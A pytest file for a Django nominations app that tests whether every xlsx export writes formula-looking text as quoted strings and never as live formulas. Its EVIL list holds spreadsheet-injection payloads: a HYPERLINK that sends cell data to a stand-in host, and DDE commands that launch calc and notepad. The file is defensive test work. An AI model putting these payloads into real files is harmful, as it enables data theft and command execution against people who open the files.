"""Text that looks like a formula stays text in every workbook the system writes (issue 31, item 3).

A unit's name, a nominee's name, a decision's title or a notification starting with ``=``, ``+``,
``-`` or ``@`` is read back with openpyxl as a string cell (data type ``s``); no cell of any
export holds a formula. The exports: every list screen's ``?format=xlsx``, the report API's three
workbooks, the background export of dossiers and the import templates.
"""

import ast
import io
from pathlib import Path

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from nominations.models import Decision, Nomination, Role, Unit
from tests.factories import UserFactory
from tests.reports_data import PERIOD
from workflows.models import Notification

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture(autouse=True)
def _clear():
    cache.clear()


@pytest.fixture
def evil_world(report_world):
    w = report_world
    Unit.objects.filter(pk=w.so_gd.pk).update(name=EVIL[0])
    Unit.objects.filter(pk=w.so_yte.pk).update(name=EVIL[3])
    for i, pk in enumerate(Nomination.objects.order_by("pk").values_list("pk", flat=True)):
        Nomination.objects.filter(pk=pk).update(nominee_name=f"{EVIL[i % 4]} #{i}")
    for pk in Decision.objects.values_list("pk", flat=True):
        Decision.objects.filter(pk=pk).update(title=EVIL[1])
    for user in (w.reviewer, w.head, w.clerk):
        Notification.objects.create(
            recipient=user, kind="deadline_reminder", title=EVIL[2], body=EVIL[0], key=f"e{user.pk}"
        )
    w.vanthu = UserFactory(username="vanthu_evil", unit=None, roles=[Role.CLERK_OFFICE])
    return w


def _strings(book):
    """(every string cell's value, every formula cell) of a workbook as read back."""
    strings, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif cell.data_type == "s" and isinstance(cell.value, str):
                    strings.append(cell.value)
    return strings, formulas


def _download(client, user, url, params=None):
    client.force_login(user)
    response = client.get(url, {**(params or {}), "format": "xlsx"})
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content))


def _every_export(client, w):
    from nominations.reports import parse_period
    from nominations.services import report_export

    books = {
        "danh sách hồ sơ": _download(client, w.head, reverse("nominations:list")),
        "hàng chờ đơn vị": _download(client, w.clerk, reverse("queues:unit")),
        "việc của tôi": _download(client, w.reviewer, reverse("queues:my_work"), {"q": "queue"}),
        "chờ ký": _download(client, w.leader, reverse("queues:signature")),
        "giám sát": _download(client, w.head, reverse("queues:oversight")),
        "thông báo": _download(client, w.reviewer, reverse("notifications:list")),
        "quyết định": _download(client, w.head, reverse("nominations:decisions")),
        "chờ phát hành": _download(client, w.vanthu, reverse("nominations:issuance_queue")),
    }
    api = APIClient()
    api.force_authenticate(w.head)
    for name, url, params in [
        ("biểu 0603", "/api/reports/forms/0603/", {}),
        ("tổng hợp", "/api/reports/summary/", {"group_by": "unit"}),
        ("thời gian xử lý", "/api/reports/processing-times/", {}),
    ]:
        response = api.get(url, {**PERIOD, **params, "format": "xlsx"})
        assert response.status_code == 200, (url, response.content[:300])
        books[name] = load_workbook(io.BytesIO(response.content))
    export, _created = report_export.export_request(
        actor=w.head, kind="nominations", period=parse_period(PERIOD["from"], PERIOD["to"])
    )
    report_export.export_run(export_id=export.pk)
    export.refresh_from_db()
    with export.file.open("rb") as stream:
        books["xuất nền"] = load_workbook(io.BytesIO(stream.read()))
    return books


def test_a_formula_looking_text_is_a_string_in_every_export(client, evil_world):
    books = _every_export(client, evil_world)
    found = set()
    for name, book in books.items():
        strings, formulas = _strings(book)
        assert formulas == [], f"{name}: formulas {formulas[:3]}"
        found |= {name for s in strings if any(s.startswith(e) for e in EVIL)}
    # The evil text did reach the workbooks that print names, titles and notifications.
    assert {
        "danh sách hồ sơ",
        "hàng chờ đơn vị",
        "thông báo",
        "quyết định",
        "tổng hợp",
        "xuất nền",
    } <= found, found


def test_the_text_reads_back_unchanged_and_quoted_for_excel(client, evil_world):
    book = _download(client, evil_world.head, reverse("nominations:list"))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    evil = [c for c in cells if c.value.startswith(tuple(EVIL))]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)
    assert {c.value.split(" #")[0] for c in evil} >= {EVIL[0], EVIL[1]}


SOURCES = [Path(__file__).resolve().parents[2] / app for app in ("nominations", "web", "workflows")]


def test_no_module_writes_a_cell_but_the_one_safe_writer():
    """A new export cannot bypass the writer: no ``WriteOnlyCell(``, no ``.cell(..., value=…)``,
    no ``ws.append(`` of raw values anywhere but ``nominations/spreadsheet.py`` (the demo's
    generated inputs aside)."""
    offenders = []
    for root in SOURCES:
        for path in root.rglob("*.py"):
            # The demo's generated inputs are not exports (and hold no user's text).
            if path.name == "spreadsheet.py" or "migrations" in path.parts or "demo" in path.name:
                continue
            tree = ast.parse(path.read_text())
            for node in ast.walk(tree):
                if not isinstance(node, ast.Call):
                    continue
                func = node.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                if name == "WriteOnlyCell":
                    offenders.append(f"{path}:{node.lineno} WriteOnlyCell")
                if name == "cell" and (len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)):
                    offenders.append(f"{path}:{node.lineno} .cell(value=…)")
                if (
                    name == "append"
                    and isinstance(func, ast.Attribute)
                    and isinstance(func.value, ast.Name)
                    and func.value.id in {"ws", "sheet", "worksheet", "units"}
                    and not (
                        node.args
                        and isinstance(node.args[0], ast.Call)
                        and getattr(node.args[0].func, "attr", "") == "row"
                    )
                    and not (node.args and isinstance(node.args[0], ast.ListComp))
                ):
                    offenders.append(f"{path}:{node.lineno} {func.value.id}.append(raw values)")
    assert offenders == []
